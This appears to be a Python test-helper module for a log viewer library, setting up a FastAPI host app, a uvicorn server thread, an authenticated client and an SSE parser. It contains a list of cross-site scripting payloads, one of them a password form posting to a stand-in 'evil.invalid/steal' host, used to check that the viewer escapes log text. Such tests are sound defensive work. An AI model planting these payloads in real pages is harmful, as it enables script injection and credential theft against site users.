"""Helpers for the viewer tests: a host FastAPI app (middleware + Loguru through a real
pipeline into LocalFiles) with the viewer mounted at /logs, served by real uvicorn."""

from __future__ import annotations

import json
import threading
from typing import Any, Optional

import httpx
import logsluice
import uvicorn
from harness._net import free_port, wait_until

TOKEN = "viewer-test-token-0123456789"

# Attacker-controlled log content the page must show as text.
XSS_CORPUS = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(2)>",
    '<a href="javascript:alert(3)">click me</a> javascript:alert(4)',
    '<form action="https://evil.invalid/steal"><input name="pw"><button>go</button></form>',
    "</script><script>alert(5)</script>",
    "line\u2028separator\u2029and </script> inside json",
]


def make_reader(directory: Any) -> Any:
    return logsluice.Reader(logsluice.LocalFiles(directory))


def host_app(pipeline: Any, reader: Any, **viewer_options: Any) -> tuple[Any, Any]:
    """The app a user would write: routes logging through Loguru, the middleware, the viewer."""
    from fastapi import FastAPI, HTTPException
    from loguru import logger

    app = FastAPI()

    @app.get("/items/{item_id}")
    async def item(item_id: int) -> dict:
        logger.bind(item={"id": item_id}).info("looking up item {}", item_id)
        if item_id >= 1000:
            logger.bind(item={"id": item_id}).error("item {} is missing", item_id)
            raise HTTPException(status_code=404, detail="no such item")
        return {"id": item_id}

    options = {"auth": logsluice.viewer.token_auth(TOKEN), "pipeline": pipeline, **viewer_options}
    view = logsluice.viewer(reader, **options)
    app.mount("/logs", view)
    app.add_middleware(logsluice.LoggingMiddleware, pipeline=pipeline, exclude=["/logs*"])
    return app, view


class ServerThread:
    """uvicorn serving ``app`` on 127.0.0.1 in a thread (no signal handlers: not the main thread)."""

    def __init__(self, app: Any) -> None:
        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        config = uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="off")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self) -> ServerThread:
        self.thread.start()
        wait_until(lambda: self.server.started, 30, "uvicorn to start")
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)


def client(base: str, token: Optional[str] = TOKEN, **kwargs: Any) -> httpx.Client:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return httpx.Client(base_url=base, headers=headers, timeout=30.0, **kwargs)


def sse_events(lines: Any, until: Any = None):
    """Parses Server-Sent Events from an iterator of lines; yields dicts with id, event, data
    (parsed JSON) and ``comment`` for heartbeats."""
    event: dict[str, Any] = {}
    for line in lines:
        if line == "":
            if event:
                if "data" in event:
                    event["data"] = json.loads(event["data"])
                yield event
                event = {}
            continue
        if line.startswith(":"):
            yield {"event": "comment", "text": line[1:].strip()}
            continue
        field, _, value = line.partition(":")
        value = value[1:] if value.startswith(" ") else value
        if field == "data":
            event["data"] = event.get("data", "") + value
        elif field in ("id", "event", "retry"):
            event[field] = value


def sigterm_app() -> Any:
    """``uvicorn --factory viewer_support:sigterm_app``: the host app over $VIEWER_TEST_DIR,
    anonymous viewer (loopback only), for the SIGTERM test."""
    import os

    directory = os.environ["VIEWER_TEST_DIR"]
    pipeline = logsluice.Pipeline(logsluice.LocalFiles(directory, batch_max_delay=0.05))
    app, _ = host_app(pipeline, make_reader(directory), auth=None, allow_anonymous=True)
    return app


def settle(pipeline: Any, reader: Any, http_records: int) -> None:
    """Flushes until ``http_records`` access records are readable: the middleware hands an
    exchange to the pipeline only after the client got its response."""

    def done() -> bool:
        pipeline.flush(timeout=30)
        return len(reader.query(kind="http", since="1h", limit=1000).records) >= http_records

    wait_until(done, 30, f"{http_records} http records")
